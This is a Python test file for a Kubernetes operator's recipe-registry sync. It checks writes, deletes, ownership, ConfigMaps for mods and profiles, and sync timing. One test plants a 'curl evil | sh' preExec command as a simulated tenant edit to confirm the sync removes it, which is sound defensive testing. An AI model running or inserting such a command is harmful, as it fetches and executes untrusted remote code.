"""``plan/registry.py`` and ``plan/registry_status.py``: what a RecipeRegistry sync writes,
keeps and deletes, and its status (pure; contents as ``recipe/registry_tree.py`` returns them)."""

from __future__ import annotations

import datetime as dt
import json
from typing import Any

from sparkrun_operator.api.recipe import RecipeIssue
from sparkrun_operator.api.registry import (
    RecipeRegistrySpec,
    RecipeRegistryStatus,
    RegisteredConfigMap,
    RegistryRecipeEntry,
)
from sparkrun_operator.plan import registry_status
from sparkrun_operator.plan.registry import config_map_names, finish, intact, plan_sync
from sparkrun_operator.plan.registry_status import Moment
from sparkrun_operator.recipe.registry_tree import (
    Layout,
    RegistryContents,
    RegistryMod,
    RegistryProfile,
    RegistryRecipe,
)
from sparkrun_operator.recipe.trust import recipe_digest
from sparkrun_operator.render import keys
from sparkrun_operator.render import registry as render
from sparkrun_operator.render.registry import RegistryRef

REF = RegistryRef(name="reg", uid="uid-1", namespace="team")
COMMIT = "a" * 40
T0 = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)


def R(
    catalog_name: str,
    path: str,
    slug: str,
    spec: dict[str, Any] | None,
    issues: list[RecipeIssue] | None = None,
) -> RegistryRecipe:
    return RegistryRecipe(catalog_name=catalog_name, path=path, slug=slug, spec=spec, issues=issues or [])


def M(name: str, slug: str, files: dict[str, bytes]) -> RegistryMod:
    return RegistryMod(name=name, slug=slug, files=files, modes={"run.sh": 0o100755})


def P(name: str, slug: str, document: dict[str, Any] | None) -> RegistryProfile:
    return RegistryProfile(name=name, path=f"benchmarks/{name}.yaml", slug=slug, document=document)


def Contents(
    *,
    recipes: list[RegistryRecipe] | None = None,
    mods: list[RegistryMod] | None = None,
    benchmark_profiles: list[RegistryProfile] | None = None,
    tuning: list[str] | None = None,
) -> RegistryContents:
    return RegistryContents(
        layout=Layout(recipes="recipes", mods="mods", benchmarks="benchmarks", tuning="tuning"),
        recipes=recipes or [],
        mods=mods or [],
        benchmark_profiles=benchmark_profiles or [],
        tuning=tuning or [],
    )


def _recipe(slug: str, model: str = "Qwen/Qwen3-0.6B") -> RegistryRecipe:
    return R(catalog_name=slug, path=f"recipes/{slug}.yaml", slug=slug, spec={"model": model})


def _live(body: dict[str, Any], *, uid: str = "obj-uid", owner_uid: str = REF.uid) -> dict[str, Any]:
    live = {**body, "metadata": {**body["metadata"], "uid": uid, "resourceVersion": "7"}}
    live["metadata"]["ownerReferences"] = [dict(REF.owner(), uid=owner_uid)]
    return live


def _stored(slug: str, model: str = "Qwen/Qwen3-0.6B", commit: str = COMMIT) -> dict[str, Any]:
    spec = render.recipe_spec({"model": model})
    body = render.recipe(
        REF, name=slug, spec=spec, catalog_name=slug, path=f"recipes/{slug}.yaml", commit=commit
    )
    return _live(body, uid=f"uid-{slug}")


def test_new_recipes_are_created_with_annotations_owner_and_defaults() -> None:
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(recipes=[_recipe("a")]),
        recipes=[],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    (write,) = planned.writes
    assert write.live is None
    assert write.resource == "Recipe"
    meta = write.body["metadata"]
    assert meta["labels"][keys.LABEL_REGISTRY] == "reg"
    assert meta["annotations"][keys.ANNOTATION_CATALOG_NAME] == "a"
    assert meta["annotations"][keys.ANNOTATION_REGISTRY_COMMIT] == COMMIT
    assert meta["ownerReferences"][0]["uid"] == REF.uid
    assert meta["ownerReferences"][0]["controller"] is True
    assert write.body["spec"]["runtime"] == "vllm"
    assert write.body["spec"]["recipeVersion"] == "2"
    entries, _, problems = finish(planned, written={"a": write.body}, refused={})
    assert entries[0].digest == recipe_digest(write.body["spec"])
    assert problems == []


def test_unchanged_recipe_is_not_written_even_at_a_new_commit() -> None:
    live = _stored("a", commit="b" * 40)
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(recipes=[_recipe("a")]),
        recipes=[live],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    assert planned.writes == []
    assert planned.deletes == []
    assert planned.entries[0].digest == recipe_digest(live["spec"])


def test_changed_spec_or_tenant_edit_is_replaced() -> None:
    live = _stored("a")
    live["spec"]["preExec"] = ["curl evil | sh"]
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(recipes=[_recipe("a")]),
        recipes=[live],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    (write,) = planned.writes
    assert write.live is live
    assert "preExec" not in write.body["spec"]


def test_invalid_recipe_keeps_the_old_object_and_its_recorded_digest() -> None:
    live = _stored("a")
    previous = RecipeRegistryStatus(
        recipes=[
            RegistryRecipeEntry(
                name="a", catalog_name="a", path="recipes/a.yaml", digest="d" * 64, valid=True
            )
        ]
    )
    broken = R("a", "recipes/a.yaml", "a", None, [RecipeIssue(severity="error", message="model: required")])
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(recipes=[broken]),
        recipes=[live],
        config_maps=[],
        previous=previous,
    )
    assert planned.writes == []
    assert planned.deletes == []
    (entry,) = planned.entries
    assert (entry.valid, entry.digest) == (False, "d" * 64)
    (problem,) = planned.problems
    assert problem.path == "recipes/a.yaml"
    assert "model: required" in problem.message
    assert "keeps serving" in problem.message
    assert (planned.counts.recipes, planned.counts.valid, planned.counts.invalid) == (1, 0, 1)


def test_a_recipe_the_fetch_left_out_keeps_its_object_and_says_why() -> None:
    big, gone = _stored("big"), _stored("gone")
    previous = RecipeRegistryStatus(
        recipes=[
            RegistryRecipeEntry(
                name="big", catalog_name="big", path="recipes/big.yaml", digest="d" * 64, valid=True
            )
        ]
    )
    skipped = {
        "recipes/big.yaml": "larger than 1048576 bytes",
        "mods/fix/run.sh": "symbolic link (not followed)",
        "recipes/.hidden/x.yaml": "symbolic link (not followed)",
        "docs/huge.md": "larger than 1048576 bytes",
    }
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(),
        recipes=[big, gone],
        config_maps=[],
        previous=previous,
        skipped=skipped,
    )
    assert planned.writes == []
    assert [d.name for d in planned.deletes] == ["gone"]
    (entry,) = planned.entries
    assert (entry.name, entry.path, entry.valid, entry.digest) == ("big", "recipes/big.yaml", False, "d" * 64)
    shown = {(p.path, p.message) for p in planned.problems}
    assert shown == {
        ("mods/fix/run.sh", "not fetched: symbolic link (not followed)"),
        ("recipes/.hidden/x.yaml", "not fetched: symbolic link (not followed)"),
        ("recipes/big.yaml", "not fetched: larger than 1048576 bytes"),
    }
    assert (planned.counts.recipes, planned.counts.valid, planned.counts.invalid) == (1, 0, 1)


def test_warnings_do_not_make_a_recipe_invalid() -> None:
    warned = R("a", "recipes/a.yaml", "a", {"model": "m/x"}, [RecipeIssue(severity="warning", message="hm")])
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(recipes=[warned]),
        recipes=[],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    assert len(planned.writes) == 1
    assert planned.counts.valid == 1


def test_removed_recipes_are_deleted_by_uid_and_foreign_objects_left_alone() -> None:
    gone = _stored("gone")
    foreign = _live(_stored("other"), uid="uid-foreign", owner_uid="another-registry")
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(),
        recipes=[gone, foreign],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    assert [(d.name, d.uid) for d in planned.deletes] == [("gone", "uid-gone")]


def test_a_name_taken_by_an_object_not_owned_is_not_touched() -> None:
    foreign = _live(_stored("a"), owner_uid="another-registry")
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(recipes=[_recipe("a")]),
        recipes=[foreign],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    assert planned.writes == []
    assert planned.deletes == []
    assert planned.entries == []
    assert "name taken" in planned.problems[0].message
    # a create that meets an unlabelled object of the name: refused at write time
    fresh = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(recipes=[_recipe("a")]),
        recipes=[],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    entries, _, problems = finish(fresh, written={}, refused={("Recipe", "a"): "name taken"})
    assert entries[0].digest is None
    assert "name taken" in problems[0].message


def test_mods_and_profiles_become_config_maps_with_digests() -> None:
    mod = M("mods/fix-x", "fix-x", {"run.sh": b"#!/bin/sh\necho hi\n", "blob.bin": b"\xff\x00"})
    big = M("mods/big", "big", {"run.sh": b"x" * (render.MOD_MAX_BYTES + 1)})
    profile = P("spark-arena-v2", "spark-arena-v2", {"scenarios": [{"name": "a"}]})
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(mods=[mod, big], benchmark_profiles=[profile], tuning=["t1"]),
        recipes=[],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    names = sorted(w.name for w in planned.writes)
    assert names == ["reg-bench-spark-arena-v2", "reg-mod-fix-x"]
    cm = next(w.body for w in planned.writes if w.name == "reg-mod-fix-x")
    assert cm["metadata"]["annotations"][keys.ANNOTATION_MOD_NAME] == "mods/fix-x"
    assert "binaryData" in cm
    manifest = json.loads(cm["data"]["manifest.json"])
    assert {f["path"]: f["mode"] for f in manifest["files"]} == {"blob.bin": 0o644, "run.sh": 0o755}
    assert planned.mods == ["mods/fix-x"]
    assert planned.profiles == ["spark-arena-v2"]
    assert planned.tuning == ["t1"]
    assert any("mods/big" in p.message for p in planned.problems)
    assert {c.kind for c in planned.config_maps} == {"mod", "benchmarkProfile"}


def test_config_maps_are_read_by_the_names_recorded_and_about_to_be_written() -> None:
    """The operator never lists ConfigMaps: a sync reads those its status records (one whose
    mod left the repository is then deleted, by UID) and those it is about to write (one taken
    meanwhile by an object it does not own is left alone)."""
    kept = M("mods/fix-x", "fix-x", {"run.sh": b"#!/bin/sh\n"})
    profile = P("spark-arena-v2", "spark-arena-v2", {"args": {}})
    digest = "0" * 64
    previous = RecipeRegistryStatus(
        config_maps=[
            RegisteredConfigMap(name="reg-mod-fix-x", kind="mod", item="mods/fix-x", digest=digest),
            RegisteredConfigMap(name="reg-mod-gone", kind="mod", item="mods/gone", digest=digest),
        ]
    )
    contents = Contents(mods=[kept], benchmark_profiles=[profile])
    names = config_map_names(REF.name, contents, previous)
    assert names == ["reg-bench-spark-arena-v2", "reg-mod-fix-x", "reg-mod-gone"]
    planned = plan_sync(REF, commit=COMMIT, contents=contents, recipes=[], config_maps=[], previous=previous)
    assert sorted(w.name for w in planned.writes) == ["reg-bench-spark-arena-v2", "reg-mod-fix-x"]
    # what the reads found: the gone mod's ConfigMap (ours), the profile's name taken by a tenant
    gone = _live({"metadata": {"name": "reg-mod-gone", "labels": {}, "annotations": {}}}, uid="gone-uid")
    taken = _live(
        {"metadata": {"name": "reg-bench-spark-arena-v2", "labels": {}, "annotations": {}}},
        uid="tenant-uid",
        owner_uid="someone-else",
    )
    planned = plan_sync(
        REF, commit=COMMIT, contents=contents, recipes=[], config_maps=[gone, taken], previous=previous
    )
    deletes = [(d.resource, d.name, d.uid) for d in planned.deletes]
    assert deletes == [("ConfigMap", "reg-mod-gone", "gone-uid")]
    assert [w.name for w in planned.writes] == ["reg-mod-fix-x"]
    assert any("name taken" in p.message for p in planned.problems)


def test_more_than_the_bound_of_recipes_are_problems_not_writes() -> None:
    many = [_recipe(f"r{i:05d}") for i in range(2050)]
    planned = plan_sync(
        REF,
        commit=COMMIT,
        contents=Contents(recipes=many),
        recipes=[],
        config_maps=[],
        previous=RecipeRegistryStatus(),
    )
    assert len(planned.writes) == 2048
    assert planned.counts.recipes == 2050
    assert sum("more than 2048" in p.message for p in planned.problems) == 2


def test_sync_is_due_on_spec_change_request_and_interval() -> None:
    spec = RecipeRegistrySpec(url="https://h/x.git", target_namespace="team", sync_interval_seconds=600)
    at = Moment(generation=1, request=None, now=T0)
    assert registry_status.seconds_to_sync(spec, RecipeRegistryStatus(), at) == 0.0
    done = registry_status.failed(RecipeRegistryStatus(), at, reason="FetchFailed", message="gone")
    later = Moment(generation=1, request=None, now=T0 + dt.timedelta(seconds=60))
    assert registry_status.seconds_to_sync(spec, done, later) == 240.0  # failed: retried within 300 s
    ok = done.model_copy(update={"conditions": []})
    assert registry_status.seconds_to_sync(spec, ok, later) == 540.0
    assert registry_status.seconds_to_sync(spec, ok, Moment(generation=2, request=None, now=later.now)) == 0.0
    assert (
        registry_status.seconds_to_sync(spec, ok, Moment(generation=1, request="now", now=later.now)) == 0.0
    )
    off = spec.model_copy(update={"enabled": False})
    assert registry_status.seconds_to_sync(off, ok, later) is None


def test_a_failed_sync_keeps_what_was_written() -> None:
    previous = RecipeRegistryStatus(
        commit=COMMIT,
        recipes=[
            RegistryRecipeEntry(
                name="a", catalog_name="a", path="recipes/a.yaml", digest="d" * 64, valid=True
            )
        ],
    )
    status = registry_status.failed(
        previous, Moment(generation=3, request="r1", now=T0), reason="FetchFailed", message="gone"
    )
    synced = next(x for x in status.conditions if x.type == "Synced")
    assert (synced.status, synced.reason) == ("False", "FetchFailed")
    assert status.recipes == previous.recipes
    assert status.commit == COMMIT
    assert status.sync_request == "r1"
    assert "stay" in synced.message


def test_an_unchanged_commit_skips_the_sync_only_while_every_object_is_as_recorded() -> None:
    live_a, live_b = _stored("a"), _stored("b")
    mod = M("mods/fix", "fix", {"run.sh": b"echo fixed\n"})
    contents = Contents(recipes=[_recipe("a"), _recipe("b")], mods=[mod])
    planned = plan_sync(
        REF, commit=COMMIT, contents=contents, recipes=[], config_maps=[], previous=RecipeRegistryStatus()
    )
    written = {w.name: _live(w.body, uid=f"uid-{w.name}") for w in planned.writes}
    entries, cms, problems = finish(planned, written={"a": live_a, "b": live_b}, refused={})
    at = Moment(generation=2, request=None, now=T0)
    status = registry_status.synced(
        RecipeRegistryStatus(),
        at,
        commit=COMMIT,
        planned=planned,
        entries=entries,
        config_maps=cms,
        problems=problems,
    )
    (cm,) = [w for n, w in written.items() if n not in ("a", "b")]
    assert registry_status.may_skip(status, at)
    assert intact(REF, status, [live_a, live_b], [cm])
    # a spec change (new generation) or a failed last sync always syncs in full
    assert not registry_status.may_skip(status, Moment(generation=3, request=None, now=T0))
    failed = registry_status.failed(status, at, reason="FetchFailed", message="x")
    assert not registry_status.may_skip(failed, at)
    # a tenant edit, a deleted object or an edited ConfigMap: full sync
    edited = _stored("b", model="org/other")
    assert not intact(REF, status, [live_a, edited], [cm])
    assert not intact(REF, status, [live_a], [cm])
    assert not intact(REF, status, [live_a, live_b], [])
    changed_cm = {**cm, "data": {**cm["data"], "f0": "echo edited\n"}}
    assert not intact(REF, status, [live_a, live_b], [changed_cm])
    # a valid recipe that was not written (name taken) is never skipped over
    taken = status.model_copy(update={"recipes": status.recipes[:1]})
    assert not intact(REF, taken, [live_a], [cm])
    skipped = registry_status.unchanged(
        status, Moment(generation=2, request="r2", now=T0 + dt.timedelta(hours=1))
    )
    assert skipped.last_sync_time == T0 + dt.timedelta(hours=1)
    assert (skipped.commit, skipped.recipes, skipped.sync_request) == (COMMIT, status.recipes, "r2")
